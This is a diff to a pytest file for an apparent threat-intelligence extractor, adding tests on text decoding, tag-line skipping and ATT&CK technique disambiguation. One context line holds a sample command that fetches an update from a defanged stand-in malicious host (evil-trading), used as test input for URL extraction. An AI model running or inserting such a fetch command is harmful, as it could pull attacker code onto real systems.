@@ -168,6 +168,19 @@ def test_documents_html_binary_and_empty_pdf(tmp_path: Path) -> None:
         writer.write(handle)
     doc = read_document(pdf)
     assert doc.format == "pdf" and doc.text.strip() == "" and "no text layer" in doc.problems[0]
+    # Nothing to read is an input error; text in Latin-1 is read as such, and said so.
+    for name, content in (
+        ("empty.txt", b""),
+        ("blank.md", b"  \n\t\n"),
+        ("s.html", b"<html><script>x</script></html>"),
+    ):
+        (tmp_path / name).write_bytes(content)
+        with pytest.raises(IngestError, match="no text to read"):
+            read_document(tmp_path / name)
+    latin = tmp_path / "latin.txt"
+    latin.write_bytes("Targets in Genève were hit.".encode("latin-1"))
+    doc = read_document(latin)
+    assert "Genève" in doc.text and "read as Windows-1252" in doc.problems[0]
 
 
 def test_misp_event_to_case(tmp_path: Path) -> None:
@@ -880,3 +893,45 @@ def test_version_numbers_are_no_addresses_and_quoted_urls_end_at_their_quote(
     code = "python -c \"import urllib; urllib.urlopen('hxxps://upd.evil-trading[.]org/update').read()\""
     urls = [o.value for o in extractor.extract_text(code, "r.txt").observations if o.subtype == "url"]
     assert urls == ["https://upd.evil-trading.org/update"]
+
+
+def test_a_pages_tag_line_is_not_read(sources_kb: KnowledgeBase) -> None:
+    text = "The actors deployed Helminth.\n\nTags: Iran, wiper, Mimikatz, newsletter archive."
+    found = TextExtractor(sources_kb).extract_text(text, "r.html")
+    assert [o.value for o in found.observations] == ["S0170"] and "'Tags' line" in found.notes[0]
+
+
+def test_a_technique_name_several_techniques_share_is_read_by_the_words_around_it() -> None:
+    lexicon = Lexicon(
+        techniques={"domain account": {"T1087.002"}}, choices={"domain account": ("T1087.002", "T1136.002")}
+    )
+    read = {
+        "The actors created a new domain account.": "T1136.002",
+        "They enumerated every domain account with net.": "T1087.002",
+        # No word says which: the one more actors use.
+        "A domain account was involved.": "T1087.002",
+    }
+    for text, expected in read.items():
+        assert [i for c, i, _, _ in lexicon.find(text) if c == "technique"] == [expected], text
+
+
+def test_a_short_technique_name_that_is_an_everyday_noun_needs_a_word_of_its_technique() -> None:
+    lexicon = Lexicon(techniques={"ip addresses": {"T1590.005"}, "ssh": {"T1021.004"}})
+    read = {
+        "The following IP addresses were used by the actors.": [],
+        "The actors gathered the IP addresses of the victim's hosts.": ["T1590.005"],
+        "They searched the file system for SSH keys.": [],
+        "They used SSH to move laterally.": ["T1021.004"],
+    }
+    for text, expected in read.items():
+        assert [i for c, i, _, _ in lexicon.find(text) if c == "technique"] == expected, text
+
+
+def test_advice_and_a_programs_module_are_not_taken(sources_kb: KnowledgeBase) -> None:
+    extractor = TextExtractor(sources_kb)
+    advice = extractor.extract_text("Monitor for Mimikatz and PowerShell execution.", "r.txt")
+    assert advice.observations == [] and all("recommendation" in n for n in advice.notes)
+    module = extractor.extract_text("They ran Mimikatz Helminth on the DC, then Helminth again.", "r.txt")
+    # The tool right after a program's name is part of it; the same name alone is a tool of its own.
+    assert [o.value for o in module.observations] == ["S0002", "S0170"]
+    assert "'Helminth' right after 'Mimikatz'" in module.notes[0]
